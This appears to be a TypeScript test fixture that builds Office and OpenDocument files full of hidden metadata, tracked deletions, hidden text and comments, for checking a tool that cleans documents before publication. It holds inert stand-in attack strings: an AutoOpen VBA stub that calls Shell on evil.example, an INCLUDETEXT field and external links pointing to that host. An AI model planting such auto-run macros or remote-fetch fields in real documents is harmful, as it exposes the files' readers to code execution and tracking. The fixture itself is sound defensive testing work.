import { writeArchive } from '../../src/reports/evidence/clean/write-archive.ts';

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
const A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"';
const P = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"';
const S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
const RELS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"';
const ODF = ['office', 'text', 'table', 'style']
  .map((one) => `xmlns:${one}="urn:oasis:names:tc:opendocument:xmlns:${one}:1.0"`)
  .join(' ');

/** Words that are in a document and that no reader of it sees: none may be in a copy. */
export const SECRETS = [
  'Nimal',
  'Perera',
  'DESK-4711',
  'evil.example',
  'AutoOpen',
  'secret-deleted',
  'secret-hidden',
  'secret-comment',
  '00AB12CD',
];
/** Words that a reader sees: all must be in a copy. */
export const SEEN = ['Meals for 340 children', 'පාසල් ආහාර', '210 enrolled'];

const PROPERTIES = {
  'docProps/core.xml':
    '<cp xmlns="x"><creator>Nimal Perera</creator><lastModifiedBy>Nimal</lastModifiedBy></cp>',
  'docProps/app.xml': '<Properties xmlns="x"><Company>DESK-4711</Company></Properties>',
  'docProps/thumbnail.jpeg': 'secret-hidden',
  'customXml/item1.xml': '<a>DESK-4711</a>',
};
const external = (id: string, target: string) =>
  `<Relationship Id="${id}" Type="http://x/hyperlink" Target="${target}" TargetMode="External"/>`;

/** A document of Word with everything in it that must not be published. */
export function wordParts(body = ''): Record<string, string> {
  const run = (text: string, properties = '') =>
    `<w:r w:rsidR="00AB12CD"><w:rPr>${properties}</w:rPr><w:t>${text}</w:t></w:r>`;
  return {
    '[Content_Types].xml': '<Types/>',
    'word/document.xml': `<w:document ${W} ${R}><w:body>
      <w:p w:rsidR="00AB12CD"><w:pPr><w:pStyle w:val="Heading1"/></w:pPr>${run('Meals for 340')}${run(' chil&#x200B;dren')}</w:p>
      <w:p>${run('පාසල් ආහාර')}<w:del w:author="Nimal Perera"><w:r><w:delText>secret-deleted</w:delText></w:r></w:del></w:p>
      <w:p>${run('secret-hidden', '<w:vanish/>')}${run('secret-hidden by style', '<w:rStyle w:val="Sly"/>')}</w:p>
      <w:p><w:hyperlink r:id="r1">${run('our list')}</w:hyperlink><w:r><w:instrText>INCLUDETEXT "\\\\evil.example\\x"</w:instrText></w:r></w:p>
      <w:p><w:r><w:drawing><a:docPr ${A} descr="Nimal"/></w:drawing></w:r></w:p>
      <w:tbl><w:tr><w:tc><w:p>${run('October')}</w:p></w:tc><w:tc><w:p>${run('210 enrolled')}</w:p></w:tc></w:tr></w:tbl>${body}
    </w:body></w:document>`,
    'word/styles.xml': `<w:styles ${W}><w:style w:styleId="Hush"><w:rPr><w:vanish/></w:rPr></w:style><w:style w:styleId="Sly"><w:basedOn w:val="Hush"/></w:style></w:styles>`,
    'word/_rels/document.xml.rels': `<Relationships ${RELS}>${external('r1', 'https://evil.example/track')}</Relationships>`,
    'word/settings.xml': `<w:settings ${W}><w:rsids><w:rsid w:val="00AB12CD"/></w:rsids><w:attachedTemplate r:id="r9"/></w:settings>`,
    'word/comments.xml': `<w:comments ${W}><w:comment w:author="Nimal">secret-comment</w:comment></w:comments>`,
    'word/vbaProject.bin': 'Sub AutoOpen() Shell "evil.example"',
    'word/people.xml': '<w15:people>Nimal</w15:people>',
    ...PROPERTIES,
  };
}

function sheetParts(): Record<string, string> {
  const relation = (id: string, target: string) => `<Relationship Id="${id}" Type="t" Target="${target}"/>`;
  const cell = (at: string, text: string) => `<c r="${at}" t="inlineStr"><is><t>${text}</t></is></c>`;
  return {
    '[Content_Types].xml': '<Types/>',
    'xl/workbook.xml': `<workbook ${S} ${R}><absPath url="C:\\Users\\Nimal\\DESK-4711\\"/><sheets>
      <sheet name="Meals for 340 children" sheetId="1" r:id="a"/><sheet name="secret-hidden" sheetId="2" state="veryHidden" r:id="b"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': `<Relationships ${RELS}>${relation('a', 'worksheets/sheet1.xml')}${relation('b', '/xl/worksheets/sheet2.xml')}</Relationships>`,
    'xl/sharedStrings.xml': `<sst ${S}><si><t>පාසල් ආහාර</t><rPh><t>Nimal</t></rPh></si></sst>`,
    'xl/styles.xml': `<styleSheet ${S}><numFmts><numFmt numFmtId="170" formatCode="yyyy\\-mm"/></numFmts><cellXfs><xf numFmtId="0"/><xf numFmtId="170"/></cellXfs></styleSheet>`,
    'xl/worksheets/sheet1.xml': `<worksheet ${S}><cols><col min="3" max="3" hidden="1"/></cols><sheetData>
      <row r="1"><c r="A1" t="s"><v>0</v></c>${cell('B1', '210 enrolled')}${cell('C1', 'secret-hidden')}<c r="D1" s="1"><v>46082</v></c></row>
      <row r="2" hidden="1">${cell('A2', 'secret-hidden')}</row>
      <row r="3"><c r="B3"><f>VLOOKUP(A1,'C:\\Nimal\\[evil.example]x'!A1,1)</f><v>7</v></c></row></sheetData></worksheet>`,
    'xl/worksheets/sheet2.xml': `<worksheet ${S}><sheetData><row><c t="inlineStr"><is><t>secret-hidden</t></is></c></row></sheetData></worksheet>`,
    'xl/comments1.xml': '<comments><author>Nimal</author><t>secret-comment</t></comments>',
    'xl/externalLinks/externalLink1.xml': '<externalLink>evil.example</externalLink>',
    ...PROPERTIES,
  };
}

function slideParts(): Record<string, string> {
  const shape = (text: string, hidden = '') =>
    `<p:sp><p:nvSpPr><p:cNvPr id="1" name="Nimal" ${hidden}/></p:nvSpPr><p:txBody><a:p><a:r><a:t>${text}</a:t></a:r></a:p></p:txBody></p:sp>`;
  const slide = (shapes: string, show = '') =>
    `<p:sld ${P} ${A} ${show}><p:cSld><p:spTree>${shapes}</p:spTree></p:cSld></p:sld>`;
  const relation = (n: number) => `<Relationship Id="s${n}" Type="t" Target="slides/slide${n}.xml"/>`;
  return {
    '[Content_Types].xml': '<Types/>',
    'ppt/presentation.xml': `<p:presentation ${P} ${R}><p:sldIdLst><p:sldId id="257" r:id="s2"/><p:sldId id="256" r:id="s1"/><p:sldId id="258" r:id="s3"/></p:sldIdLst></p:presentation>`,
    'ppt/_rels/presentation.xml.rels': `<Relationships ${RELS}>${[1, 2, 3, 4].map(relation).join('')}</Relationships>`,
    'ppt/slides/slide1.xml': slide(shape('210 enrolled') + shape('secret-hidden', 'hidden="1"')),
    'ppt/slides/slide2.xml': slide(`${shape('Meals for 340 children')}${shape('පාසල් ආහාර')}`),
    'ppt/slides/slide3.xml': slide(shape('secret-hidden'), 'show="0"'),
    'ppt/slides/slide4.xml': slide(shape('secret-deleted')),
    'ppt/notesSlides/notesSlide1.xml': slide(shape('secret-comment')),
    'ppt/commentAuthors.xml': '<p:cmAuthorLst>Nimal</p:cmAuthorLst>',
    ...PROPERTIES,
  };
}

function openTextParts(): Record<string, string> {
  return {
    mimetype: 'application/vnd.oasis.opendocument.text',
    'content.xml':
      `<office:document-content ${ODF}><office:automatic-styles><style:style style:name="T9"><style:text-properties text:display="none"/></style:style></office:automatic-styles>
      <office:body><office:text><text:tracked-changes><text:p>secret-deleted Nimal</text:p></text:tracked-changes>
      <text:h text:outline-level="1">Meals for 340<text:s text:c="99999999"/>children<office:annotation><text:p>secret-comment</text:p></office:annotation></text:h>
      <text:p>පාසල් ආහාර<text:span text:style-name="T9">secret-hidden</text:span><text:a href="https://evil.example">list</text:a></text:p>
      <text:section text:display="none"><text:p>secret-hidden</text:p></text:section>
      <table:table><table:table-row><table:table-cell><text:p>October</text:p></table:table-cell><table:table-cell><text:p>210 enrolled</text:p></table:table-cell></table:table-row></table:table>
      </office:text></office:body></office:document-content>`.replace(
        '<text:a href="https://evil.example">',
        '<text:a>',
      ),
    'meta.xml': '<office:meta>Nimal Perera DESK-4711</office:meta>',
    'Basic/Standard/Module1.xml': 'AutoOpen',
    'Thumbnails/thumbnail.png': 'secret-hidden',
    'settings.xml': '<config>DESK-4711</config>',
  };
}

/** A document of each type. */
export const DOCUMENTS = {
  docx: () => writeArchive(wordParts()),
  xlsx: () => writeArchive(sheetParts()),
  pptx: () => writeArchive(slideParts()),
  odt: () => storedFirst(openTextParts()),
} as const;

/** An archive whose first part is not packed, as OpenDocument asks. */
function storedFirst({ mimetype = '', ...parts }: Record<string, string>): Buffer {
  const packed = writeArchive({ mimetype, ...parts });
  return storeFirst(packed, mimetype);
}

/** Replaces the packed first part by its plain content. */
function storeFirst(archive: Buffer, content: string): Buffer {
  const nameBytes = archive.readUInt16LE(26);
  const packed = archive.readUInt32LE(18);
  const plain = Buffer.from(content);
  const shift = plain.length - packed;
  const head = Buffer.from(archive.subarray(0, 30 + nameBytes));
  head.writeUInt16LE(0, 8);
  head.writeUInt32LE(plain.length, 18);
  const rest = Buffer.from(archive.subarray(30 + nameBytes + packed));
  const end = rest.length - 22;
  const list = rest.readUInt32LE(end + 16) - 30 - nameBytes - packed;
  rest.writeUInt32LE(rest.readUInt32LE(end + 16) + shift, end + 16);
  for (let at = list, first = true; at < end; first = false) {
    if (first) {
      rest.writeUInt16LE(0, at + 10);
      rest.writeUInt32LE(plain.length, at + 20);
    } else rest.writeUInt32LE(rest.readUInt32LE(at + 42) + shift, at + 42);
    at += 46 + rest.readUInt16LE(at + 28);
  }
  return Buffer.concat([head, plain, rest]);
}
